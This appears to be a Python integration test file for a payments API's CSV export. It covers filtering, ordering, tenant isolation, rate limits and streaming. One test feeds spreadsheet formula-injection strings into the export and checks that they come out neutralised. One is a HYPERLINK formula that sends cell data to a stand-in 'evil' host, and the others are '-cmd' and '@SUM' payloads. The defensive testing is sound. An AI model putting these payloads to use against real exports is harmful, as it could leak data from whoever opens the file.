"""The CSV export: every row once, with the list's filters, whatever strings are in them."""

from __future__ import annotations

import asyncio
import csv
import io
from collections.abc import Callable
from contextlib import AsyncExitStack
from typing import TYPE_CHECKING

import pytest

from api.payments.filters import PaymentFilters
from api.reports import export
from api.reports.csv import COLUMNS

if TYPE_CHECKING:
    import httpx
    from tests.conftest import Gateway

pytestmark = pytest.mark.integration

EXPORT = "/api/v1/payments/export"
HOSTILE = '=HYPERLINK("http://evil/?"&A1,"x")\r\n;tab\there, कॉफ़ी ☕ <script>'
MANY = """
    WITH made AS (
        INSERT INTO orders (id, merchant_id, amount, currency, receipt)
        SELECT 'order_' || lpad(n::text, 22, '0'), %(merchant)s, 100 + n, 'INR', 'receipt ' || n
        FROM generate_series(1, %(count)s) n RETURNING id, merchant_id, amount
    )
    INSERT INTO payments (id, order_id, merchant_id, amount, currency, method, vpa, status, next_attempt_at, created_at)
    SELECT 'pay_' || right(id, 22), id, merchant_id, amount, 'INR', 'upi', 'user@bank',
           CASE WHEN amount %% 3 = 0 THEN 'failed' ELSE 'success' END, NULL,
           -- Some share an instant: the file must not lose one at a batch's edge.
           timestamptz '2024-01-15T00:00:00Z' + make_interval(secs => amount / 7)
    FROM made
"""


async def fill(gateway: Gateway, count: int, merchant_id: object = None) -> None:
    await gateway.rows.run(MANY, {"merchant": merchant_id or gateway.merchant_id, "count": count})


def read(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    names, *rows = csv.reader(io.StringIO(response.content.decode("utf-8"), newline=""))
    assert names == list(COLUMNS)
    return [dict(zip(names, row, strict=True)) for row in rows]


async def test_an_empty_export_is_a_header(gateway: Gateway) -> None:
    response = await gateway.get(EXPORT)
    assert read(response) == []
    assert response.content.endswith(b"receipt\r\n")
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["cache-control"] == "no-store"
    name = response.headers["content-disposition"]
    assert name.startswith('attachment; filename="payments-20')
    assert name.endswith('.csv"')
    assert "content-length" not in response.headers


async def test_five_thousand_rows_with_and_without_filters(gateway: Gateway) -> None:
    await fill(gateway, 5_000)
    rows = read(await gateway.get(EXPORT))
    assert len(rows) == len({row["id"] for row in rows}) == 5_000
    assert rows == sorted(rows, key=lambda row: (row["created_at_utc"], row["id"]), reverse=True)
    choices: list[tuple[str, Callable[[dict[str, str]], bool]]] = [
        ("status=failed", lambda row: row["status"] == "failed"),
        ("status=failed,success&method=upi,card", lambda _: True),
        ("method=card", lambda _: False),
        ("amount_min=2000&amount_max=2999", lambda row: 2000 <= int(row["amount"]) <= 2999),
        ("q=pay_000000000000000000012", lambda row: row["id"].startswith("pay_000000000000000000012")),
        ("q=nothing", lambda _: False),
        ("created_from=2024-01-15T00:05:00Z", lambda row: row["created_at_utc"] >= "2024-01-15T00:05:00"),
    ]
    for query, chosen in choices:
        assert read(await gateway.get(f"{EXPORT}?{query}")) == [row for row in rows if chosen(row)], query
        listed = await gateway.get(f"/api/v1/payments?{query}&limit=1")
        assert listed.headers["x-total-count"] == str(sum(map(chosen, rows))), query


async def test_hostile_strings_stay_cells(gateway: Gateway) -> None:
    order = await gateway.order(receipt=HOSTILE)
    await gateway.post(
        "/api/v1/payments", {"order_id": order["id"], "method": "upi", "vpa": "-cmd.calc@bank"}
    )
    await gateway.rows.run(
        "UPDATE payments SET status = 'failed', next_attempt_at = NULL, error_code = 'PAYMENT_FAILED', "
        "error_description = '@SUM(1+1)*cmd'"
    )
    [row] = read(await gateway.get(EXPORT))
    assert row["receipt"] == f"'{HOSTILE}"
    assert row["vpa"] == "'-cmd.calc@bank"
    assert row["error_description"] == "'@SUM(1+1)*cmd"


async def test_only_ones_own(gateway: Gateway) -> None:
    await fill(gateway, 3, await gateway.add_other_merchant())
    assert read(await gateway.get(EXPORT)) == []
    assert len(read(await gateway.get(EXPORT, headers=gateway.other_headers))) == 3


async def test_refusals_are_json_as_everywhere(gateway: Gateway, monkeypatch: pytest.MonkeyPatch) -> None:
    response = await gateway.get(f"{EXPORT}?status=captured")
    assert (response.status_code, response.json()["error"]["field"]) == (400, "status")
    assert (await gateway.get(EXPORT, headers={})).status_code == 401
    await fill(gateway, 3)
    monkeypatch.setattr(export, "MAX_ROWS", 2)
    response = await gateway.get(EXPORT)
    assert response.status_code == 400
    assert "narrow the filters" in response.json()["error"]["description"]
    assert len(read(await gateway.get(f"{EXPORT}?amount_max=102"))) == 2


async def test_few_run_at_once_and_places_come_back(
    gateway: Gateway, monkeypatch: pytest.MonkeyPatch
) -> None:
    await gateway.add_other_merchant()
    reports, own = gateway.services.reports, gateway.merchant_id
    running = [AsyncExitStack() for _ in range(export.MAX_EXPORTS_PER_MERCHANT)]
    for each in running:
        await each.enter_async_context(reports.export(own, PaymentFilters()))
    refused = await gateway.get(EXPORT)
    assert (refused.status_code, refused.headers["retry-after"]) == (429, "5")
    assert (await gateway.get(EXPORT, headers=gateway.other_headers)).status_code == 200
    monkeypatch.setattr(export, "MAX_EXPORTS", len(running))
    assert (await gateway.get(EXPORT, headers=gateway.other_headers)).status_code == 503
    await running.pop().aclose()
    for _ in range(3):
        assert (await gateway.get(EXPORT)).status_code == 200
        assert (await gateway.get(f"{EXPORT}?amount_min=x")).status_code == 400
    await running.pop().aclose()


async def test_nothing_is_held_in_the_database_while_the_client_reads(gateway: Gateway) -> None:
    await fill(gateway, 3 * export.BATCH_ROWS)
    sizes = []
    async with gateway.services.reports.export(gateway.merchant_id, PaymentFilters()) as pieces:
        async for piece in pieces:
            sizes.append(piece.count(b"\r\n"))
            await asyncio.sleep(0.05)
            busy = await gateway.rows.one(
                "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() "
                "AND state <> 'idle' AND pid <> pg_backend_pid()"
            )
            assert busy == 0
    assert sizes == [export.BATCH_ROWS + 1, export.BATCH_ROWS, export.BATCH_ROWS, 0]


async def test_head_gives_the_headers(gateway: Gateway) -> None:
    response = await gateway.client.head(EXPORT, headers=gateway.headers)
    assert (response.status_code, response.content) == (200, b"")
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
